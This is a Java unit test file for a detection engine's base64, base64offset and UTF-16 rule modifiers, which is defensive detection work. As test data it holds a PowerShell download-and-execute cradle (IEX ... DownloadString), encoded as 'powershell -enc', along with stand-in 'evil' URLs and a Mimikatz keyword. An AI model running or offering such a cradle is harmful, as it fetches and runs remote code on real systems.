package dev.vigil.engine.match;

import dev.vigil.model.Event;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;

import static dev.vigil.engine.match.Selections.compile;
import static dev.vigil.engine.match.Selections.matches;
import static dev.vigil.engine.match.Selections.message;
import static org.assertj.core.api.Assertions.assertThat;

/** base64, base64offset and the UTF-16 encodings that feed them. */
class EncodingModifiersTest {

    private static String b64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }

    @Test
    void base64EncodesTheUtf8TextAndComparesWithExactCase() {
        EventMatcher m = compile("f|base64: cmd");
        assertThat(matches(m, "Y21k")).isTrue();
        assertThat(matches(m, "y21k")).as("Base64 is case-significant").isFalse();
        assertThat(matches(m, "cmd")).isFalse();
        assertThat(matches(m, "xY21k")).isFalse();
        assertThat(matches(m, null)).isFalse();
        assertThat(matches(m, Event.NULL)).isFalse();
        EventMatcher unicode = compile("f|base64: 'été'");
        assertThat(matches(unicode, b64("été".getBytes(StandardCharsets.UTF_8)))).isTrue();
    }

    @Test
    void base64WithContainsStartsWithEndsWith() {
        String encoded = b64("http://evil".getBytes(StandardCharsets.UTF_8));
        assertThat(matches(compile("f|base64|contains: 'http://evil'"), "prefix " + encoded + " suffix")).isTrue();
        assertThat(matches(compile("f|base64|startswith: 'http://evil'"), encoded + " trailer")).isTrue();
        assertThat(matches(compile("f|base64|startswith: 'http://evil'"), "x" + encoded)).isFalse();
        assertThat(matches(compile("f|base64|endswith: 'http://evil'"), "header " + encoded)).isTrue();
        assertThat(matches(compile("f|base64|endswith: 'http://evil'"), encoded + "x")).isFalse();
        assertThat(matches(compile("f|base64|endswith: 'http://good'"), "header " + encoded)).isFalse();
    }

    @Test
    void base64OffsetFindsTheValueAtAnyPositionInsideEncodedText() {
        EventMatcher m = compile("f|base64offset|contains: 'http://evil.example/'");
        Random r = new Random(7);
        for (int prefix = 0; prefix < 9; prefix++) {
            for (int suffix = 0; suffix < 4; suffix++) {
                byte[] before = new byte[prefix];
                byte[] after = new byte[suffix];
                r.nextBytes(before);
                r.nextBytes(after);
                String encoded = b64(concat(before, "http://evil.example/".getBytes(StandardCharsets.UTF_8), after));
                assertThat(matches(m, encoded)).as("prefix %d, suffix %d", prefix, suffix).isTrue();
            }
        }
        assertThat(matches(m, b64("http://good.example/".getBytes(StandardCharsets.UTF_8)))).isFalse();
        assertThat(matches(m, "http://evil.example/")).as("the plain text is not its encoding").isFalse();
    }

    @Test
    void base64OffsetGivesTheThreeTrimmedForms() {
        // 'cmd' after 0, 1 and 2 other bytes encodes as Y21k, AGNtZA== and AABjbWQ=; only the characters that
        // depend on 'cmd' alone are kept: Y21k, NtZ and jbW
        EventMatcher m = compile("f|base64offset: cmd");
        assertThat(matches(m, "Y21k")).isTrue();
        assertThat(matches(m, "NtZ")).isTrue();
        assertThat(matches(m, "jbW")).isTrue();
        assertThat(matches(m, "AGNtZA==")).as("the unstable characters are cut").isFalse();
        assertThat(matches(m, "Y21")).isFalse();
    }

    @Test
    void wideBase64OffsetFindsPowerShellEncodedCommands() {
        String command = "IEX (New-Object Net.WebClient).DownloadString(\"http://x\")";
        String encoded = b64(command.getBytes(StandardCharsets.UTF_16LE));
        EventMatcher m = compile("f|wide|base64offset|contains: 'New-Object'");
        assertThat(matches(m, "powershell -enc " + encoded)).isTrue();
        assertThat(matches(m, b64(command.getBytes(StandardCharsets.UTF_8)))).as("UTF-8, not UTF-16LE").isFalse();
        EventMatcher utf16le = compile("f|utf16le|base64offset|contains: 'New-Object'");
        assertThat(matches(utf16le, encoded)).isTrue();
        assertThat(matches(compile("f|utf16le|base64offset|contains: 'Invoke-Mimikatz'"), encoded)).isFalse();
    }

    @Test
    void utf16EncodingsFollowTheSpecificationExamples() {
        assertThat(matches(compile("f|wide|base64: cmd"), "YwBtAGQA")).isTrue();
        assertThat(matches(compile("f|utf16le|base64: cmd"), "YwBtAGQA")).isTrue();
        assertThat(matches(compile("f|utf16be|base64: cmd"), "AGMAbQBk")).isTrue();
        assertThat(matches(compile("f|utf16be|base64: cmd"), "YwBtAGQA")).isFalse();
        assertThat(matches(compile("f|utf16|base64: cmd"), "//5jAG0AZAA=")).as("FF FE then UTF-16LE").isTrue();
        assertThat(matches(compile("f|utf16|base64: cmd"), "YwBtAGQA")).isFalse();
    }

    @Test
    void numbersAreEncodedAsTheirText() {
        assertThat(matches(compile("f|base64: 1234"), b64("1234".getBytes(StandardCharsets.UTF_8)))).isTrue();
    }

    @Test
    void encodedValuesWithListsAndAll() {
        EventMatcher any = compile("f|base64|contains: [alpha, beta]");
        assertThat(matches(any, "x" + b64("beta".getBytes(StandardCharsets.UTF_8)))).isTrue();
        assertThat(matches(any, List.of("nothing", b64("alpha".getBytes(StandardCharsets.UTF_8))))).isTrue();
        EventMatcher all = compile("f|base64offset|contains|all: ['alpha one', 'beta two']");
        String both = b64("alpha one, beta two".getBytes(StandardCharsets.UTF_8));
        String one = b64("alpha one, gamma".getBytes(StandardCharsets.UTF_8));
        assertThat(matches(all, both)).isTrue();
        assertThat(matches(all, one)).isFalse();
    }

    @Test
    void encodingErrorsAreReportedAtLoad() {
        assertThat(message("f|base64: 'a*b'")).contains("'base64' cannot encode the wildcards");
        assertThat(message("f|base64offset: 'a?'")).contains("cannot encode the wildcards");
        assertThat(message("f|contains|base64: 'ab'")).contains("put contains, startswith or endswith after it");
        assertThat(message("f|base64offset: a")).contains("at least 2 bytes");
        assertThat(message("f|wide: cmd")).contains("is bytes, not text").contains("base64offset");
        assertThat(message("f|utf16be|contains: cmd")).contains("'contains' applies to strings");
        assertThat(message("f|wide|utf16: cmd")).contains("use one encoding modifier");
        assertThat(message("f|base64: null")).contains("'base64' applies to strings");
        assertThat(message("f|re|base64: 'a.b'")).contains("'base64' applies to strings");
    }

    private static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] out = new byte[n];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, out, at, p.length);
            at += p.length;
        }
        return out;
    }
}
